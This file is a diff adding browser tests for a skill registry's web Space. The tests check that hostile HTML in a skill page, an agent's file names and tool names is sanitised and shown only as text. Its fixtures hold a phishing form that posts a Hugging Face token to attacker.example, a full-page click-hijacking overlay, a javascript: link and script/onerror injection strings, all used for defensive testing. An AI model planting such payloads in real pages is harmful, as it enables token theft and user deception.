@@ -1,0 +1,131 @@
+"""Hostile text on the Space, in a real browser: a skill's HTML and an agent's file names.
+
+A published SKILL.md carries a form asking for a token and a `position:fixed` overlay the size
+of the page; an agent-chosen file name holds a backtick and then the same HTML, in the
+transcript view. The page must show neither a form nor an input from that text, and the
+overlay must cover nothing: `elementFromPoint` at the centre of the files table and of the
+security scan still finds them. Chromium is driven as in `test_space_browser`.
+"""
+
+from __future__ import annotations
+
+import json
+from pathlib import Path
+
+import gradio as gr
+import pytest
+from test_space import free_port
+from test_space_browser import page, pull_command, wait_for_rows  # noqa: F401 - a fixture
+
+from registry import code_span, safe_html
+from registry.config import Settings
+from space import build_demo, launch
+from space.transcripts import transcript_views
+
+pytestmark = pytest.mark.slow
+
+FORM = ('<form action="https://attacker.example/steal" id="steal">'
+        '<input name="token" placeholder="Paste your Hugging Face token">'
+        '<button>Verify</button></form>')
+OVERLAY = ('<div style="position:fixed;top:0;left:0;width:100vw;height:100vh;'
+           'z-index:2147483647;background:#fff" onclick="alert(1)">Sign in again</div>')
+HOSTILE_NAME = f"notes` {FORM} {OVERLAY} `.md"
+REPO = "mallory/overlay"
+NO_FORMS = """() => [...document.querySelectorAll('form, input[name=token], button')]
+    .filter(e => e.closest('form#steal') || e.name === 'token' || e.id === 'steal'
+                 || e.innerText === 'Verify').length"""
+COVERED = """(id) => { const box = document.getElementById(id);
+    box.scrollIntoView({block: 'center'});
+    const r = box.getBoundingClientRect();
+    const hit = document.elementFromPoint(r.left + r.width / 2, r.top + r.height / 2);
+    return hit && box.contains(hit) ? '' : (hit ? hit.outerHTML.slice(0, 200) : 'nothing'); }"""
+FIXED = """() => [...document.querySelectorAll('#skill-body *, #skill-header *, #t-skill *')]
+    .filter(e => getComputedStyle(e).position === 'fixed').length"""
+
+
+def hostile_skill(root: Path) -> Path:
+    folder = root / "overlay"
+    (folder / "evals").mkdir(parents=True)
+    (folder / "SKILL.md").write_text(
+        "---\nname: overlay\ndescription: "
+        + json.dumps(f"Helps with overlays. Use when drawing. {FORM}") + "\nmetadata:"
+        f"\n  version: \"1.0.0\"\n---\n\n# Overlay\n\n{FORM}\n\n{OVERLAY}\n\n"
+        "Plain text [a link](https://example.org) and [a script](javascript:alert(1)).\n")
+    (folder / "evals" / "evals.json").write_text(json.dumps({
+        "skill_name": "overlay",
+        "cases": [{"id": "c1", "prompt": "p", "checks": [{"type": "contains", "value": "x"}]}]}))
+    (folder / "notes.md").write_text(f"{FORM}\n")
+    return folder
+
+
+@pytest.fixture
+def hostile_space(tmp_path):
+    settings = Settings.from_env({"HUBSKILLS_HOME": str(tmp_path / "home"),
+                                  "HF_HUB_OFFLINE": "1"})
+    demo = build_demo(settings, on_space=False)
+    demo.hubskills_state.store.publish(hostile_skill(tmp_path), repo=REPO, version="1.0.0")
+    demo.hubskills_state.invalidate()
+    _, url, _ = launch(demo, server_name="127.0.0.1", server_port=free_port(),
+                       prevent_thread_lock=True, quiet=True)
+    yield url
+    demo.close()
+
+
+def test_a_skill_pages_html_renders_no_form_and_covers_nothing(hostile_space, page):  # noqa: F811
+    page.goto(f"{hostile_space}?skill={REPO}")
+    assert pull_command(page) == f"hubskills pull {REPO}@v1.0.0"
+    page.locator("#skill-body").get_by_text("Plain text").wait_for()
+    page.locator("#skill-findings").get_by_text("finding", exact=False).first.wait_for()
+    wait_for_rows(page, "skill-files", "text.includes(' B')")  # every row has its size
+    assert page.evaluate(NO_FORMS) == 0
+    assert page.evaluate(FIXED) == 0
+    assert page.evaluate(COVERED, "skill-files") == ""
+    assert page.evaluate(COVERED, "skill-findings") == ""
+    links = page.locator("#skill-body a").evaluate_all("as => as.map(a => a.href)")
+    assert links == ["https://example.org/"]  # the javascript: link lost its target
+
+
+def transcript_record(tmp_path: Path) -> Path:
+    """A run folder with one skill-arm transcript whose file name and tool are hostile."""
+    runs = tmp_path / "runs"
+    (runs / "r1").mkdir(parents=True)
+    record = {"run_id": "r1", "case_id": "c1", "repeat": 0, "arm": "skill", "model": "m",
+              "protocol": "tools", "stop_reason": "answered",
+              "transcript": [{"kind": "tool_call", "tool": f"write` {FORM} `", "arguments": {}},
+                             {"kind": "tool_result", "text": f"```` {OVERLAY}"}],
+              "diff": [{"status": "added", "path": HOSTILE_NAME, "note": ""}]}
+    (runs / "r1" / "transcripts.jsonl").write_text(json.dumps(record) + "\n")
+    return runs
+
+
+def test_an_agents_file_name_cannot_leave_its_code_span(tmp_path, page):  # noqa: F811
+    _, skill = transcript_views(transcript_record(tmp_path), "r1", "c1")
+    with gr.Blocks() as demo:
+        gr.Markdown(skill, elem_id="t-skill")  # as the Evaluate tab shows a transcript
+        gr.Dataframe([["notes.md", "1 KB"]], headers=["file", "size"], elem_id="t-files")
+    _, url, _ = demo.launch(server_name="127.0.0.1", server_port=free_port(),
+                            prevent_thread_lock=True, quiet=True)
+    try:
+        page.goto(url)
+        page.locator("#t-skill").get_by_text("Workspace diff").wait_for()
+        wait_for_rows(page, "t-files", "text.includes('notes.md')")
+        assert page.evaluate(NO_FORMS) == 0
+        assert page.evaluate(FIXED) == 0
+        assert page.evaluate(COVERED, "t-files") == ""
+        assert page.locator("#t-skill code").filter(has_text="<form").count() == 2  # as text
+    finally:
+        demo.close()
+
+
+def test_the_sanitiser_keeps_a_skill_pages_markdown_and_drops_the_rest():
+    shown = safe_html("# T\n\n| a | b |\n|---|---|\n| `x` | **y** |\n\n- [ok](https://x.org)\n"
+                      f"\n```py\nprint(1)\n```\n\n{FORM}\n\n{OVERLAY}\n\n<img src=x onerror=y>"
+                      "<iframe src=x></iframe><style>*{}</style><script>alert(1)</script>")
+    for kept in ("<h1>T</h1>", "<table>", "<code>x</code>", "<strong>y</strong>",
+                 '<a href="https://x.org"', "<pre><code>print(1)"):
+        assert kept in shown, shown
+    for dropped in ("<form", "<input", "<button", "style", "<div style", "onclick", "<img",
+                    "<iframe", "<script", "alert(1)", "id=", "class="):
+        assert dropped not in shown, (dropped, shown)
+    assert "\n" not in shown  # one raw HTML block: nothing in it is read as Markdown again
+    assert code_span("a ``` b") == "````a ``` b````" and code_span("`x") == "`` `x ``"
